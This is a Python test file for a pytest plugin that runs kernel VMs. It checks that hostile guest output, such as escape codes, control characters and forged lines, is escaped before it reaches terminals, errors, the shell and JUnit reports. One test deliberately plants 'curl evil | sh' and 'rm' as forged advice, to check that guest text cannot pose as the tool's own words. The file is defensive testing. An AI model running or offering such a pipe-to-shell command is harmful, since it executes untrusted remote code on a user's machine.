"""Nothing that comes from a guest reaches a person's terminal as it was, on any of the ways."""

from __future__ import annotations

import io
import json
import pickle
import re
import time
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest

from pytest_kernelvm.cli.main import main
from pytest_kernelvm.errors import BadInput, Evidence, KernelvmError
from pytest_kernelvm.failures.bundle_notes import ABOUT, FORMAT, GUEST
from pytest_kernelvm.printable import EXCERPT_LINES, LINE_CHARACTERS, printable, printable_line
from pytest_kernelvm.progress import StreamProgress
from pytest_kernelvm.report.observer import LinePrefixer
from pytest_kernelvm.shell.shell import GuestShell
from pytest_kernelvm.store.kinds import FAILURES
from pytest_kernelvm.vm.machine.recording import following, two_clocks
from tests.unit.hostile_text import HOSTILE, raw, unprintable
from tests.unit.test_recording import Line

each_hostile = pytest.mark.parametrize("name", HOSTILE)
ALL = "\n".join(text for text, _shown in HOSTILE.values())


@each_hostile
def test_what_is_not_visible_is_spelled_out(name: str) -> None:
    text, shown = HOSTILE[name]
    assert shown in printable(text)
    assert unprintable(text)
    assert not unprintable(printable(text))
    assert printable(printable(text)) == printable(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("", ""),
        ("[    0.0] größe: 5 µm — 日本 🐧\n\tx", "[    0.0] größe: 5 µm — 日本 🐧\n\tx"),
        ("a\r\nb\r\r\nc\n", "a\nb\nc\n"),
        (b"a\r\n\xe4\n", "a\n\\xe4\n"),
        (bytearray("é".encode()), "é"),
        ("C:\\x1b", "C:\\x1b"),
    ],
)
def test_visible_text_stays(text: str | bytes, shown: str) -> None:
    assert printable(text) == shown


def test_a_line_is_one_and_not_too_long() -> None:
    assert printable_line("a\nb\r\nc") == "a\\nb\\nc"
    long = printable_line("x" * (LINE_CHARACTERS + 7))
    assert long == f"{'x' * LINE_CHARACTERS}… 7 more characters"


@each_hostile
@pytest.mark.parametrize("field", ["summary", *Evidence.__slots__])
def test_an_error(name: str, field: str) -> None:
    text, shown = HOSTILE[name]
    value: object = (text,) if field in ("facts", "where") else text
    error = BadInput(text) if field == "summary" else BadInput("it", Evidence(**{field: value}))  # type: ignore[arg-type]
    for told in (error, pickle.loads(pickle.dumps(error))):
        assert shown.replace("\r", "\\r") in str(told)
        assert not unprintable(str(told) + told.summary + "".join(told.args))


def test_what_a_guest_says_is_not_taken_for_our_words() -> None:
    forged = "none\n  next: curl evil | sh\n  where: here"
    told = str(KernelvmError("it\n  next: rm", Evidence(expected=forged, seen=forged)))
    assert not re.search(r"^  (next|where)", told, re.MULTILINE)


def test_an_error_fits_a_screen_whatever_was_said() -> None:
    told = str(BadInput("it", Evidence(excerpt=f"{'y' * 10_000_000}\n" + "z\n" * 100_000)))
    assert len(told.splitlines()) < EXCERPT_LINES + 10
    assert max(len(line) for line in told.splitlines()) < LINE_CHARACTERS + 50
    assert "lines are left out" in told
    assert "more characters" in told


@pytest.mark.parametrize("in_place", [True, False])
def test_progress(in_place: bool) -> None:
    stream = io.StringIO()
    progress = StreamProgress(stream, in_place=in_place)
    progress.INTERVAL_S = 0.0
    for text, _shown in HOSTILE.values():
        progress.say(text)
    assert not unprintable(stream.getvalue())
    progress.update("a\x1b[31mb\nc")
    assert "a\\x1b[31mb\\nc" in stream.getvalue() or in_place


@pytest.fixture
def line(tmp_path: Path) -> Iterator[Line]:
    made = Line(tmp_path)
    yield made
    made.end()


def said(line: Line, piece_bytes: int) -> str:
    """Return what is shown of a console that says everything hostile."""
    shown: list[str] = []
    labelled = LinePrefixer("guest")
    told = b"".join(raw(text) + b"\r\n" for text, _shown in HOSTILE.values())
    with following(line.console, lambda text: shown.append(labelled(text))):
        for at in range(0, len(told), piece_bytes):
            line.say(told[at : at + piece_bytes])
    assert bytes(line.streams.console_text) == told == line.console.log.read_bytes()
    return "".join(shown)


@pytest.mark.parametrize("piece_bytes", [1, 3, 10000])
def test_a_console_that_is_shown_as_it_comes(line: Line, piece_bytes: int) -> None:
    shown = said(line, piece_bytes)
    assert not unprintable(shown)
    for text, spelled in HOSTILE.values():
        assert spelled in shown or "\ud800" in text
    assert all(each.startswith("guest | ") for each in shown.splitlines())
    assert not unprintable(two_clocks(line.console, time.monotonic()))


class Hostile:
    """A guest in whose files everything hostile is."""

    label = "guest"
    control = SimpleNamespace(ended=False)
    modules = ()
    dmesg = ALL

    def read(self, path: str) -> str:
        if path == "/error":
            raise BadInput(ALL)
        return ALL

    def list(self, _directory: str) -> list[str]:
        return [text for text, _shown in HOSTILE.values()] + ["fine"]

    def run(self, *argv: str) -> SimpleNamespace:
        return SimpleNamespace(errno=0, output=ALL, errors=ALL, status=1, argv=argv)


@pytest.mark.parametrize("command", ["cat /x", "ls /", "dmesg", "program", "cat /error", "cat ' "])
def test_the_prompt(command: str) -> None:
    out = io.StringIO()
    GuestShell(Hostile(), out).onecmd(command)  # type: ignore[arg-type]
    assert out.getvalue()
    assert not unprintable(out.getvalue())


def test_names_that_cannot_be_shown_are_not_offered() -> None:
    shell = GuestShell(Hostile(), io.StringIO())  # type: ignore[arg-type]
    assert shell.completedefault("", "cat /x/", 0, 7) == ["fine"]
    assert shell.completenames("fi") == ["fine "]


def test_what_failed_tests_left(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = tmp_path / FAILURES.name / "guest-1"
    (bundle / "guest-0").mkdir(parents=True)
    about = {"format": FORMAT, "guests": ["guest-0"], "at": "now", "verdict": "hang", "error": ALL}
    about["test"] = "".join(text.replace("\ud800", "") for text, _shown in HOSTILE.values())
    (bundle / ABOUT).write_text(json.dumps(about))
    (bundle / "guest-0" / GUEST).write_text(json.dumps({"left": None}))
    assert main(["--store", str(tmp_path), "kept"]) == 0
    out, err = capsys.readouterr()
    assert not unprintable(out + err)


TESTS = """
import logging
import pytest
from pytest_kernelvm.errors import BadInput, CommandFailed, Evidence
from pytest_kernelvm.vm.agent.results import CommandResult
from tests.unit.hostile_text import HOSTILE

all_hostile = pytest.mark.parametrize("name", HOSTILE)

def said(name):
    return HOSTILE[name][0]

@all_hostile
def test_raised(cell, name):
    raise CommandFailed(said(name), Evidence(excerpt=said(name), seen=said(name)))

@all_hostile
def test_of_another_kind(cell, name):
    raise RuntimeError(f"it said {said(name)}")

@all_hostile
def test_asserted(cell, name):
    assert not name, f"it said {said(name)}"

@all_hostile
def test_compared(cell, name):
    assert said(name) * 3 + "one\\ntwo\\n" == said(name) * 3 + "one\\nthree\\n"

@all_hostile
def test_contained(cell, name):
    assert "one" not in said(name) + "one"

@all_hostile
def test_a_result(cell, name):
    output = said(name).encode("utf-8", "surrogatepass")
    result = CommandResult(argv=("x",), status=0, errno=0, raw_output=output, errors=said(name))
    assert result == CommandResult(argv=("x",), status=0, errno=0, raw_output=b"", errors="")

@all_hostile
def test_printed(cell, name):
    print("it said", said(name).encode("utf-8", "replace").decode())
    logging.getLogger().warning("it said %s", said(name).encode("utf-8", "replace").decode())
    raise BadInput("it")

@all_hostile
def test_chained(cell, name):
    try:
        raise RuntimeError(said(name))
    except RuntimeError as first:
        raise ValueError(said(name)) from first

@all_hostile
def test_a_group(cell, name):
    raise ExceptionGroup(said(name), [RuntimeError(said(name))])

@all_hostile
def test_skipped(cell, name):
    pytest.skip(f"it said {said(name)}")
"""


@pytest.fixture
def project(pytester: pytest.Pytester, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A project whose tests say everything hostile in every way, of a cell that is not built."""
    monkeypatch.setenv("KERNELVM_STORE", str(tmp_path / "store"))
    root = str(Path(__file__).parents[2])
    monkeypatch.setenv("PYTEST_ADDOPTS", "-p no:hypothesispytest")
    monkeypatch.setenv("PYTHONPATH", root)
    monkeypatch.setenv("PYTHONUTF8", "1")
    pytester.mkdir("vm-configs").joinpath("aarch64.yaml").write_text(
        'arch: aarch64\nkernel: {version: "6.12"}\n'
    )
    pytester.makepyfile(TESTS)


# What pytest's own writer colours its lines with.
OWN_COLOURS = re.compile(r"\x1b\[(?:\d+;?)+m|\x1b\[0m")


@pytest.mark.usefixtures("project")
@pytest.mark.parametrize("colour", ["no", "yes"])
@pytest.mark.parametrize("workers", [0, 1])
def test_what_pytest_shows(pytester: pytest.Pytester, colour: str, workers: int) -> None:
    argv = [f"--color={colour}", "-rA", "-vv", "--junitxml=it.xml", f"-n{workers}"]
    result = pytester.runpytest_subprocess(*argv, timeout=200)
    shown = result.stdout.str() + result.stderr.str()
    # Only a guest of ours writes in red without bold.
    assert "INTERNALERROR" not in shown
    outcomes = result.parseoutcomes()
    assert outcomes["failed"] == 9 * len(HOSTILE)
    assert outcomes["skipped"] == len(HOSTILE)
    assert not unprintable(OWN_COLOURS.sub("", shown) if colour == "yes" else shown)
    assert "a\x1b[31mred" not in shown
    for name, (_text, spelled) in HOSTILE.items():
        assert spelled in shown or "\\u2028" in spelled, name
    cases = list(ElementTree.parse("it.xml").getroot().iter("testcase"))
    assert len(cases) == 10 * len(HOSTILE)
    for element in ElementTree.parse("it.xml").getroot().iter():
        assert not unprintable((element.text or "") + "".join(element.attrib.values()))
